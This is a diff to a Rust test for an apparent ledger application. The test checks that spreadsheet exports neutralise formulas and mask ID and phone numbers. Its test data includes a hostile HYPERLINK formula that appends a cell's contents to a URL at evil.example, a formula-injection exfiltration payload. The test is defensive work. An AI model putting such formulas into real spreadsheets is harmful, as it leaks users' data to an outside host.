@@ -138,7 +138,7 @@ async fn bombs_huge_sheets_broken_text_and_oversized_bodies_are_refused_and_writ
 }
 
 #[tokio::test]
-async fn formulas_typed_into_the_ledger_are_neutralised_in_every_export() {
+async fn formulas_typed_into_the_ledger_are_neutralised_and_ids_masked_in_every_export() {
     let app = TestApp::spawn().await;
     let (_, county) = app.org("安龙县就业局", "county_office", Some(ANLONG)).await;
     let hostile = "=HYPERLINK(\"http://evil.example/?\"&A1,\"点我\")";
@@ -168,6 +168,8 @@ async fn formulas_typed_into_the_ledger_are_neutralised_in_every_export() {
             for cell in range.used_cells() {
                 let text = cell.2.to_string();
                 assert!(!text.starts_with(['=', '+', '-', '@']), "{path} {name}: a cell starts like a formula: {text}");
+                // Only masked ID and phone numbers leave in workbooks.
+                assert_eq!(qianlink_tests::pii::find(&text), None, "{path} {name}");
                 if text.contains("HYPERLINK") {
                     assert_eq!(text, format!("'{hostile}"), "{path}");
                     found = true;
